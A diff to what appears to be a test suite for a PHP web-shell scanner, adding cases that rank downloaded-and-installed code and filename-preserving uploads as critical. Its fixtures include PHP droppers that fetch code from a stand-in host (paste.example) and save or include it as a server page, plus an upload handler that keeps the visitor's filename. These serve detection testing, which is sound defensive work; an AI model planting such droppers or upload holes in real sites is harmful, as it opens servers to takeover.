@@ -228,4 +228,48 @@ if (is_uploaded_file($_FILES['avatar']['tmp_name'])) {
 }`;
     expect(isAlarm('/var/www/html/profile.php', avatar)).toBe(false);
   });
+
+  it('ranks code downloaded into a page opened in the same call, or through a URL held in a variable, critical', () => {
+    const inline = `<h1>hi<? @fwrite(fopen('w.php','w'),file_get_contents('https://paste.example/raw/w.txt')); ?></h1>`;
+    expect(topFinding('/var/www/html/logo.php', inline)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves code it downloads as a server page/),
+    });
+    const held = `<?php
+$src = 'https://paste.example/raw/tiny';
+$body = file_get_contents($src);
+$tmp = tempnam('/dev/shm', 'x');
+file_put_contents($tmp, $body);
+include $tmp;
+`;
+    expect(topFinding('/var/www/html/wp-cron2.php', held)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves code it downloads as a server page/),
+    });
+    // A feed cached as data, through the same calls, installs no page.
+    const feed = `<?php
+$src = 'https://news.example/feed.xml';
+file_put_contents(__DIR__ . '/cache/feed.xml', file_get_contents($src));
+$h = fopen(__DIR__ . '/cache/when.txt', 'w'); fwrite($h, time());
+`;
+    expect(isAlarm('/var/www/html/feed.php', feed)).toBe(false);
+  });
+
+  it('follows the sent name through substr() and a case change, not through a hash', () => {
+    const kept = `<?php
+$ext = substr($_FILES["file"]["name"], -4, 4);
+$base = substr($_FILES["file"]["name"], 0, -4) . $ext;
+$to = strtolower($base);
+if (is_uploaded_file($_FILES["file"]["tmp_name"])) move_uploaded_file($_FILES["file"]["tmp_name"], $to);
+`;
+    expect(topFinding('/var/www/html/img.php', kept)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
+    });
+    const hashed = `<?php
+$to = 'uploads/' . substr(md5($_FILES["file"]["name"] . time()), 0, 12) . '.jpg';
+move_uploaded_file($_FILES["file"]["tmp_name"], $to);
+`;
+    expect(isAlarm('/var/www/html/img.php', hashed)).toBe(false);
+  });
 });
